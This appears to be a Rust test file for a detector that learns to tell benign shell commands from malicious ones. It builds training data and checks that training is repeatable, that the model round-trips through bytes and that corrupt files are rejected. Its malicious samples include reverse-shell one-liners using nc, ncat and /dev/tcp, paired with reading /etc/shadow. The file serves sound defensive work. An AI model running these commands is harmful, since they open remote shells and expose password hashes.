use super::*;
use crate::shell::{Variables, resolve};

fn examples() -> Vec<Example> {
    let mut all = Vec::new();
    let mut add = |source: &str, label: &str, lines: &[String]| {
        for (index, text) in lines.iter().enumerate() {
            all.push(Example {
                id: format!("{source}{index}"),
                text: text.clone(),
                kind: "command".into(),
                label: label.into(),
                source: source.into(),
            });
        }
    };
    let many = |f: &dyn Fn(usize) -> String| (0..60).map(f).collect::<Vec<_>>();
    add("a", "benign", &many(&|i| format!("git commit -m 'change {i}' && cargo test --lib")));
    add("b", "benign", &many(&|i| format!("tar czf backup{i}.tgz src docs && ls -la")));
    add("c", "malicious", &many(&|i| format!("nc -e /bin/sh 10.0.0.{i} 4444; cat /etc/shadow")));
    add(
        "d",
        "malicious",
        &many(&|i| format!("ncat 192.0.2.{i} 9001 -e /bin/bash; base64 /etc/shadow")),
    );
    all
}

#[test]
fn training_twice_gives_the_same_bytes() {
    assert_eq!(train(&examples()).model.bytes(), train(&examples()).model.bytes());
}

#[test]
fn a_source_left_out_is_still_told() {
    let trained = train(&examples());
    assert!(trained.report.average_precision > 0.9, "{:?}", trained.report.sources);
    let chance = |line: &str| trained.model.predict(&resolve(line, &mut Variables::new()));
    assert!(chance("nc -e /bin/sh 198.51.100.7 443") > chance("git status && cargo build"));
}

#[test]
fn a_model_survives_being_written_and_read() {
    let model = train(&examples()).model;
    assert_eq!(Model::read(&model.bytes()), Ok(model));
}

#[test]
fn a_file_that_is_no_model_is_refused() {
    assert!(Model::read(b"").is_err());
    let mut bytes = Model::blank().bytes();
    bytes[0] = b'x';
    assert!(Model::read(&bytes).is_err());
    let mut bytes = Model::blank().bytes();
    bytes[4..8].copy_from_slice(&f32::NAN.to_le_bytes());
    assert!(Model::read(&bytes).is_err());
}

#[test]
fn the_model_in_the_program_can_be_read() {
    let model = Model::embedded();
    let chance = |line: &str| model.predict(&resolve(line, &mut Variables::new()));
    let (attack, work) = (chance("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), chance("git status"));
    assert!(attack > 0.1 && attack > 5.0 * work, "{attack} {work}");
}
